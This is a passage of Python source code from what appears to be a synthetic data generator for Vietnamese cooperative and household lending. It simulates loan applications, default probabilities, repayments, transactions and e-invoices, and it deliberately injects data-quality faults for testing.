def _application_terms(rng: np.random.Generator, apps: pd.DataFrame, ent: pd.DataFrame) -> pd.DataFrame:
    """Requested amount, term and purpose of applications that have an entity and a date."""
    e = apps.entity.to_numpy()
    n = len(apps)
    is_coop = ent.kind.to_numpy()[e] == COOP
    revenue = ent.revenue.to_numpy()[e]
    # Amount: a share of a year's sales, within the unsecured limit of Decree 156/2025.
    limit = np.where(is_coop, v.UNSECURED_LIMIT_VND["cooperative"],
                     np.where(ent.is_hb.to_numpy()[e], v.UNSECURED_LIMIT_VND["household_business"],
                              v.UNSECURED_LIMIT_VND["household"]))
    leverage = np.exp(np.where(is_coop, np.log(0.20), np.log(0.30)) + 0.5 * rng.standard_normal(n))
    smallest = np.where(is_coop, 50_000_000, 5_000_000)
    requested = np.clip(_round_to(12 * revenue * leverage, 1_000_000, 1_000_000), smallest, limit)
    term = np.where(is_coop, rng.choice(COOP_TERMS, n, p=COOP_TERM_P),
                    rng.choice(MEMBER_TERMS, n, p=MEMBER_TERM_P))
    purpose_class = np.where(is_coop, len(v.MEMBER_SECTORS), ent.sector.to_numpy()[e])
    apps["requested"] = requested.astype(np.int64)
    apps["term"] = term.astype(np.int64)
    apps["purpose"] = _categorical(rng, PURPOSE_P, purpose_class)
    return apps


# The terms of the true log-odds, each as its own column of the true_pd table, so that an evaluation
# can say which of them the features carry (evaluation.ceiling); the order of `true_pd`'s sum.
DRIVERS = ("creditworthiness", "cooperative_health", "revenue_shock", "leverage", "burden", "sector",
           "existing_loan", "harvest")


def true_pd(apps: pd.DataFrame, ent: pd.DataFrame, shocks: np.ndarray, cal: Calendar) -> np.ndarray:
    """PD = logistic(b0 + risk): latent, coop health, shock now, leverage, burden, sector, season."""
    pd_, _ = true_pd_with_drivers(apps, ent, shocks, cal)
    return pd_


def true_pd_with_drivers(apps: pd.DataFrame, ent: pd.DataFrame, shocks: np.ndarray,
                         cal: Calendar) -> tuple[np.ndarray, pd.DataFrame]:
    """The true PD and each driver's term of its log-odds (columns DRIVERS; they sum to the risk)."""
    e, month = apps.entity.to_numpy(), apps.month.to_numpy()
    is_coop = ent.kind.to_numpy()[e] == COOP
    revenue = ent.revenue.to_numpy()[e]
    sector = ent.sector.to_numpy()[e]
    leverage = apps.requested.to_numpy() / (12 * revenue)
    burden = _annuity(apps.requested.to_numpy(), 0.10, apps.term.to_numpy()) / revenue
    shock_now = 1.0 - shocks[e, month]
    farming = ent.profile.to_numpy()[e] % 2 == 1
    at_harvest = harvest_weights()[ent.region.to_numpy()[e], cal.cal_month[month] - 1] >= 0.99
    terms = pd.DataFrame({
        "creditworthiness": -np.where(is_coop, 1.4, 1.2) * ent.z.to_numpy()[e],
        "cooperative_health": -np.where(is_coop, 0.0, 0.35 * ent.z_coop.to_numpy()[e]),
        "revenue_shock": 2.5 * shock_now,
        "leverage": 0.5 * np.log(leverage / np.where(is_coop, 0.20, 0.30)),
        "burden": 0.5 * np.clip(burden, 0, 3),
        "sector": np.where(is_coop, COOP_SECTOR_RISK[np.minimum(sector, 5)], MEMBER_SECTOR_RISK[sector]),
        "existing_loan": 0.2 * (apps.ordinal.to_numpy() > 0),  # already carrying a loan
        "harvest": -0.15 * (farming & at_harvest),  # money is coming in
    }, index=apps.index)[list(DRIVERS)]
    risk = terms.to_numpy().sum(axis=1)
    pd_ = np.empty(len(apps))
    for mask, target in ((~is_coop, MEMBER_DEFAULT_RATE), (is_coop, COOP_DEFAULT_RATE)):
        pd_[mask] = _sigmoid(_intercept(risk[mask], target) + risk[mask])
    return pd_, terms


def _intercept(risk: np.ndarray, target: float) -> float:
    """The b0 that makes the mean PD equal the target rate (bisection; the mean is monotone in b0)."""
    if len(risk) == 0:
        return 0.0
    lo, hi = -20.0, 10.0
    for _ in range(60):
        mid = (lo + hi) / 2
        lo, hi = (mid, hi) if _sigmoid(mid + risk).mean() < target else (lo, mid)
    return (lo + hi) / 2


def make_loans(rng: np.random.Generator, apps: pd.DataFrame, ent: pd.DataFrame, cal: Calendar
               ) -> pd.DataFrame:
    """Disbursal a few days after the application, rate, instalment, and when a defaulter falls."""
    n = len(apps)
    is_coop = ent.kind.to_numpy()[apps.entity.to_numpy()] == COOP
    disbursal = apps.date.to_numpy() + rng.integers(1, 11, n) * NS_PER_DAY
    share = np.where(rng.random(n) < 0.85, 1.0, rng.uniform(0.6, 0.95, n))  # sometimes less is lent
    principal = np.minimum(_round_to(apps.requested.to_numpy() * share, 1_000_000, 1_000_000),
                           apps.requested.to_numpy())
    rate = np.where(is_coop, rng.uniform(0.07, 0.10, n), rng.uniform(0.08, 0.12, n))
    d_month = cal.month_of(disbursal)
    # Repayment month k (1, 2, ...) ends at month_end(d_month + k); the label window ends 12 months
    # after the application: count the month ends inside it.
    window_end = add_months(apps.date.to_numpy(), 12)
    w_month = cal.month_of(window_end)
    in_window = w_month - d_month - 1 + (cal.month_end(w_month) <= window_end)
    # A defaulter misses instalment j0 and is 91+ days late three month ends later, inside the window.
    j0 = 1 + (rng.random(n) * (in_window - 3)).astype(np.int64)
    default = apps.default.to_numpy()
    return pd.DataFrame({
        "entity": apps.entity.to_numpy(), "disbursal": disbursal // NS_PER_DAY * NS_PER_DAY,
        "d_month": d_month, "principal": principal, "term": apps.term.to_numpy(),
        "instalment": np.round(_annuity(principal, rate, apps.term.to_numpy()) / 1000) * 1000,
        "default": default, "j0": np.where(default, j0, 0),
        "default_day": np.where(default, cal.month_end(d_month + j0 + 3), np.iinfo(np.int64).max),
        "bank": rng.integers(0, 8, n),
    })


def drop_after_default(apps: pd.DataFrame, loans: pd.DataFrame,
                       earlier_default: np.ndarray | None = None) -> np.ndarray:
    """Keep mask: a later application is dropped if the borrower's earlier loan is already in default.

    earlier_default: per entity, the day an older loan (the legacy book) went into default, if any."""
    keep = np.ones(len(apps), bool)
    e, ordinal, day = apps.entity.to_numpy(), apps.ordinal.to_numpy(), apps.date.to_numpy()
    if earlier_default is None:
        earliest = np.full(int(e.max()) + 1 if len(e) else 0, np.iinfo(np.int64).max)
    else:
        earliest = np.array(earlier_default, dtype=np.int64)
    for k in range(3):  # ordinal by ordinal: a dropped application's loan never counts
        now = ordinal == k
        keep[now] = earliest[e[now]] >= day[now]
        kept = now & keep
        np.minimum.at(earliest, e[kept], loans.default_day.to_numpy()[kept])
    return keep


def past_policy(rng: np.random.Generator, apps: pd.DataFrame, ent: pd.DataFrame, decline_share: float,
                random_accept_share: float) -> tuple[np.ndarray, np.ndarray]:
    """A lender's past decisions (FUNDED / DECLINED / RANDOM_ACCEPT) and the older score it used.

    The older score's log-odds weigh some of the true drivers (POLICY_WEIGHTS) plus its own error;
    the officer adds noise; the worst `decline_share` of each borrower type (members, cooperatives)
    is declined, and `random_accept_share` of those is funded at random. Acceptance depends on the
    recorded score and on noise only, never on the outcome itself. The score is on points, higher
    is safer: 500 - 40 log-odds."""
    n = len(apps)
    old = sum(w * apps[f"driver_{d}"].to_numpy() for d, w in POLICY_WEIGHTS.items())
    old = old + POLICY_SCORE_NOISE * rng.standard_normal(n)
    pressure = old + POLICY_DECISION_NOISE * rng.standard_normal(n)
    kind = ent.kind.to_numpy()[apps.entity.to_numpy()]
    declined = np.zeros(n, bool)
    for k in (MEMBER, COOP):
        mine = kind == k
        if mine.any():
            declined[mine] = pressure[mine] > np.quantile(pressure[mine], 1.0 - decline_share)
    lucky = declined & (rng.random(n) < random_accept_share)
    decision = np.where(lucky, RANDOM_ACCEPT, np.where(declined, DECLINED, FUNDED)).astype(np.int8)
    return decision, np.round(500.0 - 40.0 * old, 1)


def make_legacy_book(rng: np.random.Generator, ent: pd.DataFrame, since: np.ndarray,
                     shocks: np.ndarray, cal: Calendar
                     ) -> tuple[pd.DataFrame, pd.DataFrame, pd.DataFrame]:
    """The loans of the years before the platform: applications, loans and repayments.

    Applications and disbursals fall in the LEGACY_MONTHS before the data starts, to entities that
    existed then (`since`: join or founding day), drawn like the in-window ones (same amounts, terms,
    true PD and default timing, on a calendar that starts LEGACY_MONTHS earlier). Only the month ends
    from the data start on are kept as repayment rows. Month indices (`month`, `d_month`) come back
    on `cal`, so they are negative for the legacy months; the label is kept but never published."""
    lcal = make_calendar((np.datetime64(cal.start, "M") - LEGACY_MONTHS).astype("datetime64[D]").item(),
                         cal.months + LEGACY_MONTHS)
    n = len(ent)
    is_coop = ent.kind.to_numpy() == COOP
    lo = np.maximum(0, lcal.month_of(np.asarray(since)) + 1)  # the month after joining / founding
    hi = LEGACY_MONTHS - 1
    count = np.where(is_coop, rng.choice(3, n, p=LEGACY_COUNT_P[COOP]),
                     rng.choice(3, n, p=LEGACY_COUNT_P[MEMBER]))
    first = lo + (rng.random(n) * np.maximum(hi - lo + 1, 0)).astype(np.int64)
    parts, month = [], first
    for k in range(2):  # at most two legacy loans per borrower, 6-15 months apart
        keep = (k < count) & (month <= hi) & (lo <= hi)
        parts.append(pd.DataFrame({"entity": np.flatnonzero(keep), "ordinal": k, "month": month[keep]}))
        month = month + rng.integers(6, 16, n)
    apps = pd.concat(parts, ignore_index=True)
    last = apps.month.to_numpy() == hi  # disbursed (up to 10 days later) before the data starts
    day = (rng.random(len(apps)) * (lcal.days[apps.month.to_numpy()] - 10 * last)).astype(np.int64)
    apps["date"] = lcal.month_start[apps.month.to_numpy()] + day * NS_PER_DAY
    apps = _application_terms(rng, apps, ent)
    before = np.ones((n, LEGACY_MONTHS), dtype=shocks.dtype)  # no shocks before the data starts
    apps["true_pd"], drivers = true_pd_with_drivers(apps, ent, np.hstack([before, shocks]), lcal)
    for name in DRIVERS:
        apps[f"driver_{name}"] = drivers[name].to_numpy()
    apps["default"] = rng.random(len(apps)) < apps.true_pd.to_numpy()
    loans = make_loans(rng, apps, ent, lcal)
    keep = drop_after_default(apps, loans)
    apps, loans = apps[keep], loans[keep]
    order = np.argsort(apps.date.to_numpy(), kind="stable")  # ids in time order
    apps, loans = apps.iloc[order].reset_index(drop=True), loans.iloc[order].reset_index(drop=True)
    repayments = make_repayments(rng, loans, ent, lcal)
    repayments = repayments[repayments.month >= LEGACY_MONTHS].reset_index(drop=True)
    repayments["month"] -= LEGACY_MONTHS
    apps["month"] -= LEGACY_MONTHS
    loans["d_month"] -= LEGACY_MONTHS
    return apps, loans, repayments


def make_repayments(rng: np.random.Generator, loans: pd.DataFrame, ent: pd.DataFrame,
                    cal: Calendar) -> pd.DataFrame:
    """One row per loan and month-end while it runs (a loan in default runs until the data ends)."""
    last_month = cal.months - 1
    available = last_month - loans.d_month.to_numpy()
    length = np.where(loans.default, available, np.minimum(loans.term, available)).clip(0)
    loan = np.repeat(np.arange(len(loans)), length)
    k = np.arange(len(loan)) - np.repeat(np.cumsum(length) - length, length) + 1
    month = loans.d_month.to_numpy()[loan] + k
    j0 = loans.j0.to_numpy()[loan]
    defaulting = loans.default.to_numpy()[loan] & (k >= j0)
    # Late on a loan that does not default: mostly days, sometimes one or two months, never 91.
    u = rng.random(len(loan))
    delay = np.where(u < 0.6, rng.integers(1, 16, len(loan)),
                     np.where(u < 0.9, rng.integers(16, 31, len(loan)), rng.integers(31, 61, len(loan))))
    late = rng.random(len(loan)) < ent.p_delay.to_numpy()[loans.entity.to_numpy()[loan]]
    first_miss = rng.integers(1, 30, len(loans))[loan]
    dpd = np.where(defaulting, np.minimum(30 * (k - j0) + first_miss, 3650), np.where(late, delay, 0))
    instalment = loans.instalment.to_numpy()[loan]
    due = np.where(k <= loans.term.to_numpy()[loan], instalment, 0).astype(np.int64)
    # Paid = what fell due, plus arrears caught up, minus instalments newly missed.
    missed = -(-dpd // 30)
    previous = np.r_[0, missed[:-1]]
    previous[k == 1] = 0
    paid = np.clip(due + (previous - missed) * instalment, 0, None).astype(np.int64)
    return pd.DataFrame({"loan": loan, "month": month, "month_end": cal.month_end(month),
                         "dpd": dpd.astype(np.int64), "due": due, "paid": paid})


# ----------------------------------------------------------------------------------------------
# Transactions and e-invoices
# ----------------------------------------------------------------------------------------------
def make_transactions(rng: np.random.Generator, ent: pd.DataFrame, cal: Calendar,
                      shocks: np.ndarray, salt: int) -> dict[str, np.ndarray]:
    """Inflows and outflows of every entity and month: counts, times, amounts, channels, counterparties."""
    sales, expenses = make_seasons(cal)
    n, months = len(ent), cal.months
    profile = ent.profile.to_numpy()
    active = np.arange(months)[None, :] >= ent.active_from.to_numpy()[:, None]
    vol = ent.vol.to_numpy()[:, None]
    wobble = np.exp(vol * rng.standard_normal((n, months)) - vol**2 / 2)  # irregular months
    level = np.sqrt(sales[profile] * shocks * wobble)  # half in more sales, half in bigger ones
    lam_in = ent.lam_in.to_numpy()[:, None]
    # Expenses fall less than sales in a shock: margins are squeezed.
    out_level = np.sqrt(expenses[profile] * (1.0 - 0.5 * (1.0 - shocks)) * np.sqrt(wobble))
    lam_out = ent.lam_out.to_numpy()[:, None]
    revenue = ent.revenue.to_numpy()[:, None]
    parts = []
    for direction, lam, ticket in (
            (INFLOW, lam_in * level * active, revenue * level / lam_in),
            (OUTFLOW, lam_out * out_level * active,
             ent.expense_ratio.to_numpy()[:, None] * revenue * out_level / lam_out)):
        # month-major cells so rows come out roughly in time order
        counts = rng.poisson(lam.T.ravel())
        cell = np.repeat(np.arange(n * months, dtype=np.int64), counts)
        parts.append({"e": (cell % n).astype(np.int32), "t": (cell // n).astype(np.int32),
                      "direction": np.full(len(cell), direction, np.int8),
                      "mean": np.repeat(ticket.T.ravel(), counts)})
    tx = {k: np.concatenate([p[k] for p in parts]) for k in parts[0]}
    tx["ts"] = _times(rng, tx["t"], cal)
    tx["category"], size = _categories(rng, tx, ent)
    spread = rng.lognormal(-0.55**2 / 2, 0.55, len(tx["e"]))  # mean 1: tickets vary around the month's
    tx["amount"] = np.minimum(_round_to(tx.pop("mean") * size * spread, 1000, 1000), MAX_CLEAN_AMOUNT)
    tx["channel"] = _channels(rng, tx, ent, cal)
    tx["cp_key"] = _counterparties(rng, tx, ent, salt)
    return tx


def _times(rng: np.random.Generator, t: np.ndarray, cal: Calendar) -> np.ndarray:
    """A day of the month and a time between 06:00 and 21:00."""
    day = (rng.random(len(t)) * cal.days[t]).astype(np.int64)
    seconds = rng.integers(6 * 3600, 21 * 3600, len(t))
    return cal.month_start[t] + day * NS_PER_DAY + seconds * 10**9


def _categories(rng: np.random.Generator, tx: dict, ent: pd.DataFrame) -> tuple[np.ndarray, np.ndarray]:
    """Inflows are mostly sales; outflows inputs, wages, utilities, transfers (with their own sizes)."""
    n = len(tx["e"])
    inflow = tx["direction"] == INFLOW
    u = rng.random(n)
    in_cat = np.where(u < 0.93, CAT["sales"], np.where(u < 0.97, CAT["transfer"], CAT["other"]))
    kind = ent.kind.to_numpy()[tx["e"]]
    which = _categorical(rng, OUTFLOW_CATEGORY_P, kind)
    mean_size = (OUTFLOW_CATEGORY_P * OUTFLOW_CATEGORY_SIZE).sum(axis=1)
    out_size = OUTFLOW_CATEGORY_SIZE[which] / mean_size[kind]
    category = np.where(inflow, in_cat, OUTFLOW_CATEGORIES[which]).astype(np.int8)
    return category, np.where(inflow, 1.0, out_size)


def _channels(rng: np.random.Generator, tx: dict, ent: pd.DataFrame, cal: Calendar) -> np.ndarray:
    """Cash or not; for sales, formal (e-invoice / cash register) or not; else VietQR or e-wallet.

    The formal share grows every year, and jumps for household businesses when the law moves them:
    cash registers for revenue >= 1 billion from 2025-06, declaration (so e-invoices) from 2026."""
    e, t = tx["e"], tx["t"]
    n = len(e)
    years = cal.years_since_2022[t]
    hb = ent.is_hb.to_numpy()[e]
    month_day = cal.month_start[t]
    big = ent.revenue.to_numpy()[e] * 12 >= 1e9
    formal_logit = (ent.formal0.to_numpy()[e] + 0.30 * years
                    + 0.8 * (hb & big & (month_day >= _ns("2025-06-01")))
                    + 1.2 * (hb & (month_day >= _ns("2026-01-01"))))
    cash = rng.random(n) < _sigmoid(ent.cash0.to_numpy()[e] - 0.30 * years)
    sale = tx["category"] == CAT["sales"]
    formal = sale & ~cash & (rng.random(n) < _sigmoid(formal_logit))
    u = rng.random(n)
    register = u < ent.cash_register.to_numpy()[e]
    channel = np.where(cash, CH["cash"],
                       np.where(formal, np.where(register, CH["cash_register"], CH["e_invoice"]),
                                np.where(u < 0.6, CH["vietqr"], CH["e_wallet"])))
    return channel.astype(np.int8)


def _counterparties(rng: np.random.Generator, tx: dict, ent: pd.DataFrame, salt: int) -> np.ndarray:
    """A key per row (hashed later): a customer or supplier from the entity's own pool.

    Strong entities have more customers and spread sales over them; weak ones lean on a few. A third
    of a member's input purchases go to its cooperative (the same hash for all its members). The
    pool is keyed by the entity's number in the whole population (`ent`'s index), so a chunk of
    entities (generate(stream=True)) draws the same pools as the whole."""
    e = ent.index.to_numpy()[tx["e"]].astype(np.uint64)
    n = len(e)
    inflow = tx["direction"] == INFLOW
    pool = np.where(inflow, ent.customers.to_numpy()[tx["e"]], ent.suppliers.to_numpy()[tx["e"]])
    power = np.where(inflow, ent.concentration.to_numpy()[tx["e"]], 1.5)
    index = np.floor(pool * rng.random(n) ** power).astype(np.uint64)
    key = (e << np.uint64(32)) | (inflow.astype(np.uint64) << np.uint64(28)) | index
    to_coop = ((ent.kind.to_numpy()[tx["e"]] == MEMBER) & (tx["category"] == CAT["inputs"])
               & (rng.random(n) < 0.33))
    coop = ent.coop_entity.to_numpy()[tx["e"]].astype(np.uint64)
    coop_key = (coop << np.uint64(32)) | np.uint64(0xFFFFFFF)  # outside every pool's index range
    return np.where(to_coop, coop_key, key) ^ np.uint64(salt)


def loan_transactions(rng: np.random.Generator, loans: pd.DataFrame, repayments: pd.DataFrame,
                      cal: Calendar, salt: int) -> dict[str, np.ndarray]:
    """The money of the loans: one disbursal inflow each (if disbursed inside the data), one
    repayment outflow per month paid."""
    paid = repayments[repayments.paid > 0]
    loan = paid.loan.to_numpy()
    disbursal = loans.disbursal.to_numpy()
    as_days = disbursal.astype("datetime64[ns]").astype("datetime64[D]")
    disb_day = (as_days - as_days.astype("datetime64[M]").astype("datetime64[D]")).astype(np.int64)
    t = paid.month.to_numpy()
    day = np.minimum(disb_day[loan] + rng.integers(0, 5, len(loan)), cal.days[t] - 1)
    inside = np.flatnonzero((loans.d_month.to_numpy() >= 0)  # the legacy book's happened before
                            & loans.get("funded", True))  # a declined application got no money
    n_l, n_r = len(inside), len(loan)
    office_hours = rng.integers(8 * 3600, 17 * 3600, n_l + n_r) * 10**9
    disb_ts = disbursal[inside] + office_hours[:n_l]
    repay_ts = cal.month_start[t] + day * NS_PER_DAY + office_hours[n_l:]
    bank = np.r_[loans.bank.to_numpy()[inside], loans.bank.to_numpy()[loan]].astype(np.uint64)
    return {
        "e": np.r_[loans.entity.to_numpy()[inside], loans.entity.to_numpy()[loan]].astype(np.int32),
        "t": np.r_[loans.d_month.to_numpy()[inside], t].astype(np.int32),
        "direction": np.r_[np.full(n_l, INFLOW), np.full(n_r, OUTFLOW)].astype(np.int8),
        "ts": np.r_[disb_ts, repay_ts],
        "category": np.r_[np.full(n_l, CAT["loan_disbursal"]),
                          np.full(n_r, CAT["loan_repayment"])].astype(np.int8),
        "amount": np.r_[loans.principal.to_numpy()[inside], paid.paid.to_numpy()].astype(np.int64),
        "channel": np.full(n_l + n_r, CH["vietqr"], np.int8),
        "cp_key": ((np.uint64(0xBA) << np.uint64(56)) | bank) ^ np.uint64(salt),
    }


def make_e_invoices(rng: np.random.Generator, tx: dict, ent: pd.DataFrame) -> dict[str, np.ndarray]:
    """An invoice per e-invoice sale; some adjusted; some preceded by a cancelled one (re-issued)."""
    sel = np.flatnonzero((tx["channel"] == CH["e_invoice"]) & (tx["category"] == CAT["sales"]))
    e, ts, amount = tx["e"][sel], tx["ts"][sel], tx["amount"][sel]
    n = len(sel)
    adjusted = rng.random(n) < ent.p_adjust.to_numpy()[e]
    total = np.where(adjusted, _round_to(amount * rng.normal(1.0, 0.05, n), 1000, 1000), amount)
    vat = _categorical(rng, VAT_P, ent.vat_class.to_numpy()[e])
    buyer = rng.random(n) < ent.p_buyer_tax.to_numpy()[e]
    cancelled = np.flatnonzero(rng.random(n) < ent.p_cancel.to_numpy()[e])
    k = len(cancelled)
    wrong = _round_to(amount[cancelled] * rng.uniform(0.9, 1.1, k), 1000, 1000)
    issued_before = ts[cancelled] - rng.integers(600, 3 * 3600, k) * 10**9
    status = np.r_[np.where(adjusted, 2, 0), np.ones(k)].astype(np.int8)
    return {"e": np.r_[e, e[cancelled]], "ts": np.r_[ts, issued_before],
            "status": status, "total": np.r_[total, wrong], "vat": np.r_[vat, vat[cancelled]],
            "buyer": np.r_[buyer, buyer[cancelled]]}


# ----------------------------------------------------------------------------------------------
# Tables
# ----------------------------------------------------------------------------------------------
_ARROW = {"str": pa.string(), "int64": pa.int64(), "float64": pa.float64(), "bool": pa.bool_(),
          "date": pa.timestamp("ns"), "timestamp": pa.timestamp("ns")}


def to_table(contract: Contract, columns: dict) -> pa.Table:
    """The contract's columns, in its order, with its types (dates and times as ns timestamps)."""
    arrays = []
    for f in contract.fields:
        col = columns[f.name]
        if not isinstance(col, (pa.Array, pa.ChunkedArray)):
            col = np.asarray(col)
            col = pa.array(col.view("datetime64[ns]") if f.dtype in ("date", "timestamp") else col)
        arrays.append(col.cast(_ARROW[f.dtype]))
    schema = pa.schema([pa.field(f.name, _ARROW[f.dtype]) for f in contract.fields])
    return pa.Table.from_arrays(arrays, schema=schema)


def _entity_ids(n_members: int, n_coops: int) -> pa.Array:
    return pa.concat_arrays([_ids("TV", np.arange(1, n_members + 1), 7),
                             _ids("HTX", np.arange(1, n_coops + 1), 6)])


def cooperatives_table(coops: pd.DataFrame, ids: pa.Array) -> pa.Table:
    return to_table(CONTRACTS["cooperatives"], {
        "cooperative_id": ids, "province": _vocab(v.PROVINCES, coops.province),
        "sector": _vocab(v.COOPERATIVE_SECTORS, coops.sector), "founding_date": coops.founding,
        "member_count": coops.member_count, "legal_capital_vnd": coops.legal_capital})


def members_table(members: pd.DataFrame, coops: pd.DataFrame, ids: pa.Array, coop_ids: pa.Array
                  ) -> pa.Table:
    return to_table(CONTRACTS["members"], {
        "member_id": ids, "cooperative_id": pc.take(coop_ids, pa.array(members.coop.to_numpy())),
        "province": _vocab(v.PROVINCES, members.province),
        "member_type": _vocab(v.MEMBER_TYPES, members.is_hb.astype(int)),
        "business_sector": _vocab(v.MEMBER_SECTORS, members.sector),
        "join_date": members.joined, "capital_contribution_vnd": member_capital(members, coops),
        "household_head_gender": _vocab(v.GENDERS, (~members.female).astype(int)),
        "ethnic_minority": members.ethnic, "mountainous_commune": members.mountainous})


def transactions_table(tx: dict, ent: pd.DataFrame, entity_ids: pa.Array, first_id: int = 1) -> pa.Table:
    """Transaction ids are numbered from `first_id` (a chunk continues where the one before ended)."""
    e = pa.array(tx["e"])
    n = len(tx["e"])
    return to_table(CONTRACTS["transactions"], {
        "transaction_id": _ids("GD", np.arange(first_id, first_id + n), 12),
        "entity_type": _vocab(v.ENTITY_TYPES, ent.kind.to_numpy()[tx["e"]]),
        "entity_id": pc.take(entity_ids, e), "ts": tx["ts"], "amount_vnd": tx["amount"],
        "direction": _vocab(v.DIRECTIONS, tx["direction"]),
        "channel": _vocab(v.CHANNELS, tx["channel"]),
        "counterparty_hash": hex_hashes(_mix64(tx["cp_key"]), tx["channel"] != CH["cash"]),
        "category": _vocab(v.TRANSACTION_CATEGORIES, tx["category"])})


def e_invoices_table(inv: dict, ent: pd.DataFrame, entity_ids: pa.Array, first_number: int = 1) -> pa.Table:
    """Invoice id = series (1 = VAT invoice, C = with the tax authority's code, year, T, AA) + number,
    numbered from `first_number`."""
    n = len(inv["e"])
    year = (inv["ts"].astype("datetime64[ns]").astype("datetime64[Y]").astype(np.int64) + 1970) % 100
    series = pc.binary_join_element_wise(_ids("1C", year, 2), "TAA", "")
    return to_table(CONTRACTS["e_invoices"], {
        "invoice_id": pc.binary_join_element_wise(series, _ids("", np.arange(first_number, first_number + n),
                                                               10), "-"),
        "entity_type": _vocab(v.ENTITY_TYPES, ent.kind.to_numpy()[inv["e"]]),
        "entity_id": pc.take(entity_ids, pa.array(inv["e"])), "issued_at": inv["ts"],
        "status": _vocab(v.INVOICE_STATUSES, inv["status"]), "total_vnd": inv["total"],
        "vat_rate_percent": np.array(v.VAT_RATES_PERCENT, dtype=np.int64)[inv["vat"]],
        "buyer_tax_code_present": inv["buyer"]})


def loan_tables(apps: pd.DataFrame, loans: pd.DataFrame, repayments: pd.DataFrame, ent: pd.DataFrame,
                entity_ids: pa.Array) -> dict[str, pa.Table]:
    n = len(apps)
    legacy = apps.month.to_numpy() < 0  # applied before the data starts
    app_ids = _ids("HS", np.arange(1, n + 1), 8)
    decision = apps["decision"].to_numpy() if "decision" in apps else np.full(n, -1)
    funded = decision != DECLINED  # only a funded application has a loan
    loan_ids = _ids("KV", np.cumsum(funded), 8)  # numbered without gaps: KV + the loan's rank
    entity_type = _vocab(v.ENTITY_TYPES, ent.kind.to_numpy()[apps.entity.to_numpy()])
    entity_id = pc.take(entity_ids, pa.array(apps.entity.to_numpy()))
    return {
        "loan_applications": to_table(CONTRACTS["loan_applications"], {
            "application_id": app_ids, "entity_type": entity_type, "entity_id": entity_id,
            "lender_id": _vocab(tuple(v.LENDERS), apps.lender),
            "application_date": apps.date // NS_PER_DAY * NS_PER_DAY,
            "requested_amount_vnd": apps.requested, "term_months": apps.term,
            "purpose": _vocab(v.LOAN_PURPOSES, apps.purpose),
            # the legacy book's outcome window lies before the platform's records: unknown
            # ... and a declined application's never happened
            "default_12m": np.where(legacy | ~funded, np.nan, apps.default.astype(np.float64)),
            "decision": pc.take(pa.array(DECISIONS), pa.array(decision.astype(np.int32),
                                                              mask=decision < 0)),
            "policy_score": (apps["policy_score"].to_numpy() if "policy_score" in apps
                             else np.full(n, np.nan))}),
        "loans": to_table(CONTRACTS["loans"], {
            "loan_id": loan_ids.filter(pa.array(funded)), "application_id": app_ids.filter(pa.array(funded)),
            "entity_type": entity_type.filter(pa.array(funded)),
            "entity_id": entity_id.filter(pa.array(funded)), "disbursal_date": loans.disbursal[funded],
            "principal_vnd": loans.principal[funded], "term_months": loans.term[funded]}),
        "repayments": to_table(CONTRACTS["repayments"], {
            "loan_id": pc.take(loan_ids, pa.array(repayments.loan.to_numpy())),
            "month": repayments.month_end, "days_past_due": repayments.dpd,
            "amount_due_vnd": repayments.due, "amount_paid_vnd": repayments.paid}),
        "true_pd": to_table(CONTRACTS["true_pd"], {
            "application_id": app_ids.filter(pa.array(~legacy)), "true_pd": apps.true_pd[~legacy],
            **{f"driver_{d}": apps[f"driver_{d}"][~legacy] for d in DRIVERS},
            # the truth: what every application would have done if funded, declined ones included
            "outcome_if_funded": apps.default.to_numpy()[~legacy].astype(np.float64)}),
    }


# ----------------------------------------------------------------------------------------------
# Dirt
# ----------------------------------------------------------------------------------------------
def _replace(table: pa.Table, column: str, rows: np.ndarray, values) -> pa.Table:
    """table[column][rows] = values (rows sorted ascending, values in the same order)."""
    mask = np.zeros(table.num_rows, bool)
    mask[rows] = True
    i = table.schema.get_field_index(column)
    col = table.column(i).combine_chunks()
    if not isinstance(values, pa.Array):
        values = np.asarray(values)
        if pa.types.is_timestamp(col.type):
            values = values.astype("datetime64[ns]")
        values = pa.array(values)
    return table.set_column(i, column, pc.replace_with_mask(col, pa.array(mask), values.cast(col.type)))


def _numbers(table: pa.Table, column: str, rows: np.ndarray) -> np.ndarray:
    col = table.column(column).take(pa.array(rows))
    return col.cast(pa.int64()).to_numpy(zero_copy_only=False)


def _unaccented(values: pa.Array) -> pa.Array:
    """'Hà Nội' -> 'Ha Noi': the typo of a feed that lost its diacritics."""
    out = pc.utf8_normalize(values, "NFD")
    out = pc.replace_substring_regex(out, r"\p{Mn}", "")
    return pc.replace_substring(pc.replace_substring(out, "Đ", "D"), "đ", "d")


class Dirt:
    """Injects one kind of dirt per chosen row (rows are disjoint, so every count is exact)."""

    def __init__(self, rng: np.random.Generator, cal: Calendar, n_members: int, n_coops: int,
                 n_loans: int):
        self.rng, self.cal = rng, cal
        self.n_members, self.n_coops, self.n_loans = n_members, n_coops, n_loans
        self.counts: dict[str, dict[str, int]] = {}

    def apply(self, name: str, table: pa.Table, plan: dict[str, tuple[float, int]]) -> pa.Table:
        """plan: kind -> (share of rows, minimum rows)."""
        n = table.num_rows
        sizes, budget = {}, n // 2  # a tiny table: at most half of it dirty, kinds in plan order
        for kind, (share, minimum) in plan.items():
            size = min(max(minimum, int(round(share * n))), budget)
            if size > 0:
                sizes[kind], budget = size, budget - size
        chosen = self.rng.choice(n, sum(sizes.values()), replace=False)
        duplicates = None
        at = 0
        for kind, size in sizes.items():
            rows = np.sort(chosen[at:at + size])
            at += size
            if kind == "duplicate":
                duplicates = rows
            else:
                table = getattr(self, "_" + kind)(table, rows)
            self.counts.setdefault(name, {})[kind] = size
        if duplicates is not None:  # exact copies, appended after the other dirt was placed
            table = pa.concat_tables([table, table.take(pa.array(duplicates))])
        return table

    # each kind: what a real feed sends
    def _negative_amount(self, table, rows):
        col = _amount_column(table)
        return _replace(table, col, rows, -np.abs(_numbers(table, col, rows)))

    def _absurd_amount(self, table, rows):
        factor = self.rng.integers(2, 1000, len(rows))
        return _replace(table, _amount_column(table), rows, v.ABSURD_AMOUNT_VND * factor)

    def _future_ts(self, table, rows):
        col = _time_column(table)
        years = self.rng.integers(1, 11, len(rows))
        late = self.cal.end - self.cal.month_start[0] + years * 365 * NS_PER_DAY
        return _replace(table, col, rows, _numbers(table, col, rows) + late)

    def _unknown_entity(self, table, rows):
        is_coop = pc.equal(table.column("entity_type").take(pa.array(rows)), "cooperative")
        fake_members = _unknown_ids("TV", self.n_members, len(rows), 7)
        fake_coops = _unknown_ids("HTX", self.n_coops, len(rows), 6)
